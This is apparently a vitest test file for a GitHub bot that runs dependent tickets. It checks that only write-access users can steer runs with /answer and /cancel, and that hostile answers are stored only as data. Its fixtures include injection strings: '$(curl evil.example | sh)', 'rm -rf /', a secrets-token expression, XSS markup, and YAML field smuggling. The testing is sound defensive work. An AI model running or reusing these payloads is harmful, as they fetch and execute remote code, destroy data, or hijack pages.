import { afterEach, describe, expect, it } from "vitest";
import {
  type BotWorld,
  botReplies,
  botWorld,
  DIR,
  questionIssues,
  reactionsOn,
  ticket,
} from "./harness.js";

let world: BotWorld | undefined;
afterEach(async () => {
  world?.fake.assertNoViolations();
  await world?.stop();
  world = undefined;
});

const GRAPH = {
  plan: ticket({ title: "Plan the migration" }),
  build: ticket({ depends_on: ["plan"] }),
  ship: ticket({ depends_on: ["build"] }),
};

const ROLES = { maint: "maintain", writer: "write", reader: "read", triager: "triage" } as const;

async function suspendedPlan(): Promise<BotWorld> {
  const w = await botWorld(GRAPH, { roles: { ...ROLES } });
  w.script.plan = [
    { outcome: "suspended", question: "Which database should the migration target?" },
    { outcome: "complete", result: "plan: postgres" },
  ];
  await w.start();
  return w;
}

describe("a maintainer's answer on the question issue runs the ticket and its dependents", () => {
  it("a ticket suspends, its question issue opens, a maintainer answers, the ticket and its dependents complete", async () => {
    world = await suspendedPlan();
    const w = world;
    expect(w.state().tickets.plan?.status).toBe("suspended");
    const [issue] = questionIssues(w.repo);
    expect(issue).toBeDefined();
    expect(issue!.state).toBe("open");

    const result = await w.comment(
      issue!.number,
      "/answer Use postgres 16.\nThe replica is read-only.",
      "maint",
    );
    expect(result).toMatchObject({ kind: "handled", ok: true });

    const state = w.state();
    expect(state.tickets.plan?.status).toBe("complete");
    expect(state.tickets.build?.status).toBe("complete");
    expect(state.tickets.ship?.status).toBe("complete");
    expect(state.tickets.plan?.answers).toEqual([
      expect.objectContaining({
        n: 1,
        attempt: 1,
        by: "maint",
        text: "Use postgres 16.\nThe replica is read-only.",
      }),
    ]);
    // The answer is its own immutable file, written in the commit that re-readied the ticket.
    const answerFile = JSON.parse(w.file(`${DIR}/.frontier/answers/plan@1.json`)!);
    expect(answerFile.text).toBe("Use postgres 16.\nThe replica is read-only.");
    expect(w.ran.filter((r) => r.ticket === "plan").map((r) => r.attempt)).toEqual([1, 2]);

    // The question issue is closed, with a reply that links the run.
    const closed = w.repo.issues.get(issue!.number)!;
    expect(closed.state).toBe("closed");
    expect(closed.stateReason).toBe("completed");
    const replies = botReplies(w.repo, issue!.number);
    expect(replies.at(-1)).toMatch(/Recorded the answer to `plan`/);
    expect(replies.at(-1)).toMatch(/\/actions\/runs\/\d+/);
    expect(w.state().questions.plan?.closed).toBe(true);

    const comment = w.repo.commentsOn(issue!.number).find((c) => c.body.startsWith("/answer"))!;
    expect(reactionsOn(w.repo, comment.id)).toEqual(["eyes", "+1"]);
  });
});

/** The run's report lives on a tracking issue (no PR for main): the usual place for commands. */
function reportIssue(w: BotWorld): number {
  const n = w.state().report?.issue_number;
  if (n === undefined) throw new Error("no report comment recorded");
  return n;
}

describe("only people with write access are obeyed; nothing else changes", () => {
  it.each([
    ["stranger", undefined],
    ["reader", "read"],
    ["triager", "triage"],
  ])("%s's /answer and /cancel are refused and change nothing", async (login) => {
    world = await suspendedPlan();
    const w = world;
    const [issue] = questionIssues(w.repo);
    const head = w.repo.head("main");
    const stateBefore = w.file(`${DIR}/.frontier/state.json`);
    const ticketsBefore = ["plan", "build", "ship"].map((id) => w.file(`${DIR}/${id}.md`));
    const runsBefore = w.fake.allRuns().length;

    const answer = await w.comment(issue!.number, "/answer Use sqlite", login);
    const cancel = await w.comment(reportIssue(w), "/cancel", login);

    expect(answer).toMatchObject({ kind: "refused", login });
    expect(cancel).toMatchObject({ kind: "refused", login });
    // Byte-identical: the branch did not move at all.
    expect(w.repo.head("main")).toBe(head);
    expect(w.file(`${DIR}/.frontier/state.json`)).toBe(stateBefore);
    expect(["plan", "build", "ship"].map((id) => w.file(`${DIR}/${id}.md`))).toEqual(ticketsBefore);
    expect(w.fake.allRuns().length).toBe(runsBefore);
    expect(w.repo.issues.get(issue!.number)!.state).toBe("open");
    // A polite reply that names who may do this, and 😕.
    const reply = botReplies(w.repo, issue!.number).at(-1)!;
    expect(reply).toContain(
      `@${login}, only people with write access to acme/app can steer this run`,
    );
    expect(reply).toContain("Nothing was changed");
    const comment = w.repo.commentsOn(issue!.number).find((c) => c.user === login)!;
    expect(reactionsOn(w.repo, comment.id)).toEqual(["eyes", "confused"]);
    // Permission comes from the permission endpoint, once per comment.
    expect(w.fake.countRequests({ operation: "repos/get-collaborator-permission-level" })).toBe(2);
  });

  it("obeys someone with the write role", async () => {
    world = await suspendedPlan();
    const [issue] = questionIssues(world.repo);
    const result = await world.comment(issue!.number, "/answer plan Use postgres", "writer");
    expect(result).toMatchObject({ kind: "handled", ok: true });
    expect(world.state().tickets.plan?.status).toBe("complete");
  });
});

describe("comments that are not commands for the bot are ignored", () => {
  async function ignoredWorld() {
    world = await suspendedPlan();
    const w = world;
    const [issue] = questionIssues(w.repo);
    return { w, issue: issue!.number, head: w.repo.head("main"), requests: w.fake.requests.length };
  }

  function expectUntouched(w: BotWorld, issue: number, head: string | undefined) {
    expect(w.repo.head("main")).toBe(head);
    expect(botReplies(w.repo, issue)).toEqual([]);
    for (const c of w.repo.commentsOn(issue)) expect(c.reactions).toEqual([]);
    expect(w.state().tickets.plan?.status).toBe("suspended");
  }

  it("an edited comment", async () => {
    const { w, issue, head, requests } = await ignoredWorld();
    const r = await w.comment(issue, "/answer Use postgres", "maint", { action: "edited" });
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
    expect(w.fake.requests.length).toBe(requests);
  });

  it("a quoted command", async () => {
    const { w, issue, head, requests } = await ignoredWorld();
    const r = await w.comment(issue, "> /answer Use postgres\n\nShould we do this?", "maint");
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
    expect(w.fake.requests.length).toBe(requests);
  });

  it("a command in a code block", async () => {
    const { w, issue, head } = await ignoredWorld();
    const r = await w.comment(
      issue,
      "Answer like this:\n\n```\n/answer Use postgres\n```\n\n    /cancel\n",
      "maint",
    );
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
  });

  it("a bot's comment, even one with admin rights", async () => {
    const { w, issue, head, requests } = await ignoredWorld();
    w.repo.setPermission("github-actions[bot]", "admin");
    const r = await w.comment(issue, "/answer Use postgres", "github-actions[bot]");
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
    expect(w.fake.requests.length).toBe(requests);
  });

  it("unknown slash commands", async () => {
    const { w, issue, head } = await ignoredWorld();
    const r = await w.comment(issue, "/lgtm\n/deploy production", "maint");
    expect(r).toMatchObject({ kind: "ignored" });
    expectUntouched(w, issue, head);
  });
});

describe("a comment on a pull request from a fork is ignored", () => {
  it("even a maintainer's /cancel there changes nothing", async () => {
    // The fake serves same-repository pulls only; GitHub names the fork in head.repo.
    world = await botWorld(GRAPH, {
      roles: { ...ROLES },
      gh: (gh) => {
        gh.hook.after("request", (response, options) => {
          if (
            options.method === "GET" &&
            /\/pulls\/(\{pull_number\}|\d+)$/.test(String(options.url))
          ) {
            const head = (response.data as { head: { repo: { full_name: string } | null } }).head;
            if (head.repo) head.repo.full_name = "mallory/app";
          }
        });
        return gh;
      },
    });
    const w = world;
    w.script.plan = [{ outcome: "suspended", question: "Which database?" }];
    await w.start();
    w.repo.createBranch("patch-1");
    const pr = w.repo.openPull({ head: "patch-1", user: "mallory" });
    const head = w.repo.head("main");
    const r = await w.comment(pr.number, "/cancel", "maint");
    expect(r).toMatchObject({ kind: "ignored", reason: expect.stringContaining("fork") });
    expect(w.repo.head("main")).toBe(head);
    expect(botReplies(w.repo, pr.number)).toEqual([]);
    expect(w.state().run.cancelled).toBeUndefined();
  });

  it("a pull request of the repository's own branch is obeyed", async () => {
    world = await suspendedPlan();
    const w = world;
    // Branched before the run started, so it carries no state of its own.
    const beforeRun = w.repo.log("main").find((c) => c.message === "tickets")!.sha;
    w.repo.createBranch("patch-2", beforeRun);
    const pr = w.repo.openPull({ head: "patch-2" });
    const r = await w.comment(pr.number, "/status", "maint");
    expect(r).toMatchObject({ kind: "handled", ok: true, branch: "main" });
    expect(botReplies(w.repo, pr.number).at(-1)).toContain("Ticket Frontier");
  });
});

const HOSTILE: Record<string, string> = {
  fences: "---\nstatus: complete\nattempt: 99\nid: other\n---\nbody",
  yaml: "status: complete\nblocked_by: {ticket: x, kind: dep-failed, root: x}\nclaimed_by: mallory",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal expression is the attack
  expression: "${{ secrets.GITHUB_TOKEN }} $(curl evil.example | sh) `id`",
  backticks: "run `rm -rf /` ``` ``\n```sh\n/cancel\n```\n~~~\n/retry x\n~~~",
  html: '<script>alert(1)</script><!-- ticket-frontier:report run=demo --><img src=x onerror="x">',
  big: `${"lorem ipsum dolor sit amet ".repeat(3800)}the end`,
  unicode: "Ünïcödé — 日本語 🐘 \u202Eevil\u202C \u200Bzero-width \uFEFF bom",
  nul: "before\u0000after\u0000",
};

describe("hostile answers are stored verbatim as data and change no other field", () => {
  it("front-matter fences, YAML, ${{ }}, backticks, HTML, 100 KB, unicode and NUL bytes", async () => {
    const ids = Object.keys(HOSTILE);
    world = await botWorld(Object.fromEntries(ids.map((id) => [id, ticket({}, `Task ${id}.`)])), {
      roles: { ...ROLES },
    });
    const w = world;
    for (const id of ids) {
      // The next attempt asks again, so any field the answer managed to set would show.
      w.script[id] = [
        { outcome: "suspended", question: `first question of ${id}` },
        { outcome: "suspended", question: `second question of ${id}` },
      ];
    }
    await w.start();
    expect(HOSTILE.big!.length).toBeGreaterThan(100_000);
    const before = Object.fromEntries(ids.map((id) => [id, w.file(`${DIR}/${id}.md`)!]));

    for (const id of ids) {
      const issue = questionIssues(w.repo).find((i) =>
        i.title.includes(`first question of ${id}`),
      )!;
      const r = await w.comment(issue.number, `/answer ${HOSTILE[id]}`, "maint");
      expect(r, id).toMatchObject({ kind: "handled", ok: true, outcomes: [{ kind: "answered" }] });
    }

    const state = w.state();
    for (const id of ids) {
      const text = HOSTILE[id]!;
      const t = state.tickets[id]!;
      expect(t.status, id).toBe("suspended");
      expect(t.attempt, id).toBe(2);
      expect(t.blocked_by, id).toBeUndefined();
      expect(t.claimed_by, id).not.toBe("mallory");
      expect(
        t.answers.map((a) => a.text),
        id,
      ).toEqual([text]);
      const file = w.file(`${DIR}/.frontier/answers/${id}@1.json`)!;
      expect(JSON.parse(file).text, id).toBe(text);
      // The ticket file: only engine fields changed, the answer is nowhere in it.
      const ticketText = w.file(`${DIR}/${id}.md`)!;
      expect(ticketText.endsWith(before[id]!.slice(before[id]!.indexOf("\n---\n") + 5)), id).toBe(
        true,
      );
      expect(ticketText, id).not.toContain("mallory");
      expect(ticketText, id).not.toContain("attempt: 99");
      expect(ticketText, id).toMatch(/^status: suspended$/m);
      expect(ticketText, id).toMatch(/^attempt: 2$/m);
    }
    // Nothing the answers said was dispatched as input to a workflow.
    for (const run of w.fake.allRuns()) {
      expect(Object.keys(run.inputs).sort()).toEqual(["attempt", "base", "claim", "run", "ticket"]);
      for (const v of Object.values(run.inputs)) expect(v).toMatch(/^[A-Za-z0-9._#@-]*$/);
    }
    expect(state.run.cancelled).toBeUndefined();
  });
});
